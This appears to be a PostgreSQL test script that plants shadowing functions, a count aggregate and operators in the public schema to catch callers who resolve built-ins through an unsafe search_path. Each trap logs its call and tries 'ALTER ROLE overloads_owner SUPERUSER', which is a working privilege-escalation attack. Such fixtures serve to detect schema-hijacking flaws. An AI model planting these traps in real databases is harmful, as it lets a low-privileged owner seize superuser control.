-- What the owner of a database can put in the way of whoever works there: functions, aggregates and operators
-- of every name in NAMES, for the very argument types that Postgres has and for those of its catalogues, found
-- before those of Postgres. Each counts its calls and tries to make its maker a superuser.
CREATE SEQUENCE public.caught;
CREATE TABLE public.callers (what text);
GRANT ALL ON SEQUENCE public.caught TO PUBLIC;
GRANT ALL ON public.callers TO PUBLIC;
CREATE FUNCTION public.spring(what text) RETURNS void LANGUAGE plpgsql SET search_path = '' AS $spring$
BEGIN
    PERFORM pg_catalog.nextval('public.caught');
    RAISE LOG 'caught: % as %', what, current_user;
    INSERT INTO public.callers VALUES (what);
    EXECUTE 'ALTER ROLE overloads_owner SUPERUSER';
EXCEPTION WHEN OTHERS THEN NULL;
END $spring$;

CREATE FUNCTION public.trap(kind text, name text, arguments text, result text) RETURNS void LANGUAGE plpgsql
SET search_path = '' AS $trap$
DECLARE
    -- Domains of null and cstring apart, a NULL of the right type is an answer.
    body text := pg_catalog.format('BEGIN PERFORM public.spring(%L); RETURN NULL; END', name || '(' || arguments || ')');
BEGIN
    EXECUTE pg_catalog.format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', name, arguments, result, body);
EXCEPTION WHEN OTHERS THEN NULL; -- there already, or of a type that no such function may have
END $trap$;

DO $all$
DECLARE
    f record;
    kind text;
    other text;
    types text[] := ARRAY['name', 'text', 'oid', 'integer', 'bigint', 'boolean', '"char"', 'pg_lsn', 'jsonb', 'json',
        'timestamptz', 'interval', 'xid8', 'uuid', 'text[]', 'name[]', 'oidvector', 'int2vector', 'smallint', 'app.seq',
        'pg_replication_slots', 'pg_publication_tables', 'pg_constraint', 'pg_class', 'pg_stat_replication'];
BEGIN
    PERFORM pg_catalog.set_config('search_path', '', true);
    -- As Postgres has them, so that the order of the schemas decides.
    FOR f IN SELECT p.proname::text AS name, pg_catalog.oidvectortypes(p.proargtypes) AS arguments,
            CASE WHEN p.proretset THEN 'SETOF ' ELSE '' END || pg_catalog.format_type(p.prorettype, NULL) AS result
        FROM pg_catalog.pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname::text = ANY (NAMES) AND p.prokind = 'f'
    LOOP
        PERFORM public.trap('function', f.name, f.arguments, f.result);
    END LOOP;
    PERFORM public.trap('function', 'format', 'text, text, text', 'text');
    PERFORM public.trap('function', 'json_build_object', 'text, bigint', 'json');
    -- And better: for types where Postgres takes a detour by way of others.
    FOR f IN SELECT DISTINCT p.proname::text AS name, p.prokind,
            CASE WHEN p.prorettype IN (SELECT oid FROM pg_catalog.pg_type WHERE typtype = 'p') THEN 'jsonb'
                 ELSE pg_catalog.format_type(p.prorettype, NULL) END AS result
        FROM pg_catalog.pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname::text = ANY (NAMES) AND p.prokind IN ('f', 'a', 'w')
    LOOP
        FOREACH kind IN ARRAY types LOOP
            PERFORM public.trap('function', f.name, kind, f.result);
        END LOOP;
    END LOOP;
    EXECUTE 'CREATE FUNCTION public.step(bigint) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(''count''); RETURN 0; END $$';
    EXECUTE 'CREATE AGGREGATE public.count(*) (SFUNC = public.step, STYPE = bigint, INITCOND = ''0'')';
    -- Operators as Postgres has them.
    FOR f IN SELECT o.oprname::text AS name, pg_catalog.format_type(nullif(o.oprleft, 0), NULL) AS a,
            pg_catalog.format_type(o.oprright, NULL) AS b, pg_catalog.format_type(o.oprresult, NULL) AS result
        FROM pg_catalog.pg_operator o
        WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprleft <> 0
          AND o.oprname::text IN ('=', '<>', '<', '<=', '>', '>=', '||', '->', '->>', '+', '-', '*', '~', '~~', '!~~')
          AND o.oprleft::regtype::text = ANY (types) AND o.oprright::regtype::text = ANY (types || 'text'::text)
    LOOP
        PERFORM public.trap('operator', 'operator_' || f.name, f.a || ', ' || f.b, f.result);
        BEGIN
            EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
                f.name, f.a, f.b, 'operator_' || f.name);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    -- And for pairs that Postgres has none for.
    FOREACH kind IN ARRAY types[1:9] LOOP
        FOREACH other IN ARRAY types[1:9] LOOP
            FOR f IN SELECT name FROM pg_catalog.unnest(ARRAY['=', '<>', '<', '>']) name LOOP
                PERFORM public.trap('operator', 'operator_' || f.name, kind || ', ' || other, 'boolean');
                BEGIN
                    EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
                        f.name, kind, other, 'operator_' || f.name);
                EXCEPTION WHEN OTHERS THEN NULL;
                END;
            END LOOP;
        END LOOP;
    END LOOP;
END $all$;
